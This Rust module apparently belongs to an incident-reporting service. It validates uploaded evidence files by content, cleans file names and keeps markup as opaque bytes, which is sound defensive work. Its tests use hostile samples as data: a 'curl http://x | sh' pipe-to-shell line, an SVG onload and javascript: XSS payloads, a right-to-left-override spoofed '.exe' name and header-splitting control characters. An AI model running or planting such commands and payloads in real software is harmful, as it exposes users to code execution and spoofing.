//! Evidence files sent with a report: screenshots, PDFs, logs. Their type is decided from their content (magic
//! bytes, or valid UTF-8 text for logs), never from the file name or the declared type.

use serde::{Deserialize, Serialize};

use crate::digest::sha256_hex;
use crate::text::is_direction_override;

/// The most characters of a file name kept with an evidence file.
pub const MAX_NAME_CHARS: usize = 200;

/// An uploaded file's name as it is kept: its last path component only (`/` or `\` separated, as browsers and
/// shells send them), without control or direction-override characters, trimmed, at most [`MAX_NAME_CHARS`]
/// characters. `None` when nothing is left (or only `.` or `..`). The name is for people; the file is found and
/// typed by its content.
pub fn evidence_name(raw: &str) -> Option<String> {
    let last = raw.rsplit(['/', '\\']).next().unwrap_or_default();
    let visible: String = last
        .chars()
        .filter(|c| !c.is_control() && !is_direction_override(*c))
        .collect();
    let kept: String = visible.trim().chars().take(MAX_NAME_CHARS).collect();
    let kept = kept.trim_end();
    (!kept.is_empty() && kept != "." && kept != "..").then(|| kept.to_owned())
}

/// The `Content-Disposition` a stored file is downloaded with: always `attachment` (never shown inline), the
/// name as printable ASCII (anything else, quotes and backslashes become `_`) and in full as RFC 8187 UTF-8.
pub fn attachment_disposition(name: &str) -> String {
    let fallback: String = name
        .chars()
        .map(|c| {
            if (c.is_ascii_graphic() && c != '"' && c != '\\') || c == ' ' {
                c
            } else {
                '_'
            }
        })
        .collect();
    let mut encoded = String::with_capacity(name.len());
    for byte in name.bytes() {
        // Letters, digits and `-._~` as they are (all RFC 8187 attr-chars); every other byte encoded.
        if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_' | b'~') {
            encoded.push(char::from(byte));
        } else {
            encoded.push_str(&format!("%{byte:02X}"));
        }
    }
    format!("attachment; filename=\"{fallback}\"; filename*=UTF-8''{encoded}")
}

/// The types of evidence the team accepts.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum MediaType {
    /// `image/png`
    #[serde(rename = "image/png")]
    Png,
    /// `image/jpeg`
    #[serde(rename = "image/jpeg")]
    Jpeg,
    /// `image/gif`
    #[serde(rename = "image/gif")]
    Gif,
    /// `image/webp`
    #[serde(rename = "image/webp")]
    Webp,
    /// `application/pdf`
    #[serde(rename = "application/pdf")]
    Pdf,
    /// `text/plain; charset=utf-8`: logs, headers, notes.
    #[serde(rename = "text/plain")]
    Text,
    /// Text that holds markup or a script — HTML, SVG, XML, a `#!` script — anywhere in it: a phishing page's
    /// source is real evidence, so it is kept, but typed as opaque bytes (`application/octet-stream`) so that
    /// nothing ever renders or runs it.
    #[serde(rename = "application/octet-stream")]
    Markup,
}

/// What makes a text [`MediaType::Markup`], looked for in lower case anywhere in it.
const MARKUP_SIGNS: [&str; 12] = [
    "<html",
    "<!doctype",
    "<svg",
    "<?xml",
    "<script",
    "<iframe",
    "<body",
    "<object",
    "<embed",
    "<meta",
    "<xsl",
    "javascript:",
];

impl MediaType {
    /// The media type as sent in `Content-Type`.
    pub fn as_str(self) -> &'static str {
        match self {
            MediaType::Png => "image/png",
            MediaType::Jpeg => "image/jpeg",
            MediaType::Gif => "image/gif",
            MediaType::Webp => "image/webp",
            MediaType::Pdf => "application/pdf",
            MediaType::Text => "text/plain; charset=utf-8",
            MediaType::Markup => "application/octet-stream",
        }
    }

    /// Decides the type from the content alone; `None` for anything not accepted.
    pub fn sniff(bytes: &[u8]) -> Option<MediaType> {
        // Text formats `infer` knows (XML, HTML, SVG, shell scripts) are judged as text below.
        if let Some(kind) =
            infer::get(bytes).filter(|kind| kind.matcher_type() != infer::MatcherType::Text)
        {
            return match kind.mime_type() {
                "image/png" => Some(MediaType::Png),
                "image/jpeg" => Some(MediaType::Jpeg),
                "image/gif" => Some(MediaType::Gif),
                "image/webp" => Some(MediaType::Webp),
                "application/pdf" => Some(MediaType::Pdf),
                _ => None,
            };
        }
        let text = std::str::from_utf8(bytes).ok()?;
        let plain = !text.is_empty()
            && text
                .chars()
                .all(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t' | '\u{c}'));
        if !plain {
            return None;
        }
        let lower = text.to_lowercase();
        let markup = text.starts_with("#!") || MARKUP_SIGNS.iter().any(|sign| lower.contains(sign));
        Some(if markup {
            MediaType::Markup
        } else {
            MediaType::Text
        })
    }

    /// Whether files of this type are kept only as opaque bytes ([`MediaType::Markup`]), which staff should open
    /// in a text editor, never a browser.
    pub fn is_opaque(self) -> bool {
        self == MediaType::Markup
    }
}

/// An evidence file whose type was decided from its content.
#[derive(Clone, PartialEq, Eq)]
pub struct EvidenceFile {
    sha256: String,
    media_type: MediaType,
    bytes: Vec<u8>,
    name: Option<String>,
}

impl std::fmt::Debug for EvidenceFile {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("EvidenceFile")
            .field("sha256", &self.sha256)
            .field("media_type", &self.media_type)
            .field("size", &self.bytes.len())
            .field("named", &self.name.is_some())
            .finish()
    }
}

/// Why an upload is not accepted as evidence.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum EvidenceError {
    /// Empty file.
    #[error("the file is empty")]
    Empty,
    /// Not an image, PDF or plain text, judged by content.
    #[error("the file is not an image (PNG, JPEG, GIF, WebP), a PDF or plain text")]
    UnsupportedType,
}

impl EvidenceFile {
    /// Accepts an uploaded file if its content is of an accepted type.
    pub fn from_upload(bytes: Vec<u8>) -> Result<Self, EvidenceError> {
        if bytes.is_empty() {
            return Err(EvidenceError::Empty);
        }
        let media_type = MediaType::sniff(&bytes).ok_or(EvidenceError::UnsupportedType)?;
        Ok(EvidenceFile {
            sha256: sha256_hex(&bytes),
            media_type,
            bytes,
            name: None,
        })
    }

    /// The same file with the name it was sent under, cleaned by [`evidence_name`] (none when nothing of it is
    /// left).
    pub fn named(mut self, raw_name: &str) -> Self {
        self.name = evidence_name(raw_name);
        self
    }

    /// The name it was sent under, cleaned, if it had one.
    pub fn name(&self) -> Option<&str> {
        self.name.as_deref()
    }

    /// Hex SHA-256 of the content.
    pub fn sha256(&self) -> &str {
        &self.sha256
    }

    /// The type decided from the content.
    pub fn media_type(&self) -> MediaType {
        self.media_type
    }

    /// The content.
    pub fn bytes(&self) -> &[u8] {
        &self.bytes
    }

    /// The reference recorded on the case.
    pub fn reference(&self) -> crate::case::EvidenceRef {
        crate::case::EvidenceRef {
            sha256: self.sha256.clone(),
            media_type: self.media_type.as_str().to_owned(),
            size: self.bytes.len() as u64,
            name: self.name.clone(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_download_name_has_a_safe_ascii_fallback_and_its_utf8_form() {
        assert_eq!(
            attachment_disposition("tangkapan layar \"1\".png"),
            "attachment; filename=\"tangkapan layar _1_.png\"; \
             filename*=UTF-8''tangkapan%20layar%20%221%22.png"
        );
        assert_eq!(
            attachment_disposition("bukti_é\\.log"),
            "attachment; filename=\"bukti___.log\"; filename*=UTF-8''bukti_%C3%A9%5C.log"
        );
    }

    #[test]
    fn types_come_from_content_not_names() {
        let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
        assert_eq!(MediaType::sniff(&png), Some(MediaType::Png));
        assert_eq!(
            MediaType::sniff(b"\xff\xd8\xff\xe0\0\x10JFIF"),
            Some(MediaType::Jpeg)
        );
        assert_eq!(MediaType::sniff(b"%PDF-1.7\n%"), Some(MediaType::Pdf));
        assert_eq!(
            MediaType::sniff(b"GIF89a\x01\0\x01\0"),
            Some(MediaType::Gif)
        );
        assert_eq!(
            MediaType::sniff(b"Nov 23 10:01:02 web sshd[311]: Failed password for root\n"),
            Some(MediaType::Text)
        );
        // An executable, an archive, HTML with a NUL, binary noise: refused.
        assert_eq!(
            MediaType::sniff(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"),
            None
        );
        assert_eq!(MediaType::sniff(b"PK\x03\x04\x14\0\0\0"), None);
        assert_eq!(MediaType::sniff(b"<html>\0</html>"), None);
        // Markup and scripts, wherever they start: kept as opaque bytes.
        for markup in [
            &b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"[..],
            b"Header yang saya salin:\nX-Test: 1\n\n<HTML><body>phishing</body></HTML>",
            b"<?xml version=\"1.0\"?><a/>",
            b"#!/bin/sh\ncurl http://x | sh\n",
            b"lihat <a href=\"javascript:alert(1)\">ini</a>",
        ] {
            assert_eq!(
                MediaType::sniff(markup),
                Some(MediaType::Markup),
                "{markup:?}"
            );
        }
        assert_eq!(MediaType::Markup.as_str(), "application/octet-stream");
        assert!(MediaType::Markup.is_opaque() && !MediaType::Text.is_opaque());
        // A log that mentions a tag-less word stays text.
        assert_eq!(
            MediaType::sniff(b"GET /index.php?page=scripts HTTP/1.1 200\n"),
            Some(MediaType::Text)
        );
        assert_eq!(MediaType::sniff(&[0xde, 0xad, 0xbe, 0xef]), None);
        assert_eq!(
            EvidenceFile::from_upload(Vec::new()),
            Err(EvidenceError::Empty)
        );
    }

    #[test]
    fn a_file_name_keeps_its_last_component_without_hidden_characters() {
        assert_eq!(
            evidence_name("C:\\Users\\siti\\Desktop\\tangkapan layar.png").as_deref(),
            Some("tangkapan layar.png")
        );
        assert_eq!(
            evidence_name("/home/staf/../bukti/auth.log").as_deref(),
            Some("auth.log")
        );
        // A right-to-left override would show "gnp.exe" as "exe.png"; controls could split a header line.
        assert_eq!(
            evidence_name("foto\u{202e}gnp.exe").as_deref(),
            Some("fotognp.exe")
        );
        assert_eq!(evidence_name("a\r\nb\0.txt").as_deref(), Some("ab.txt"));
        assert_eq!(
            evidence_name(&"x".repeat(500)).map(|n| n.chars().count()),
            Some(200)
        );
        for nothing in ["", "   ", "dir/", "..", "\u{202e}\u{200f}", "a/."] {
            assert_eq!(evidence_name(nothing), None, "{nothing:?}");
        }
    }

    #[test]
    fn the_reference_carries_the_cleaned_name() {
        let file = EvidenceFile::from_upload(b"log line\n".to_vec())
            .expect("text")
            .named("../../bukti\u{202e}/auth.log");
        assert_eq!(file.name(), Some("auth.log"));
        let reference = file.reference();
        assert_eq!(reference.name.as_deref(), Some("auth.log"));
        assert_eq!(reference.media_type, "text/plain; charset=utf-8");
        assert_eq!(reference.size, 9);
        let unnamed = EvidenceFile::from_upload(b"log line\n".to_vec()).expect("text");
        assert_eq!(unnamed.reference().name, None);
    }
}
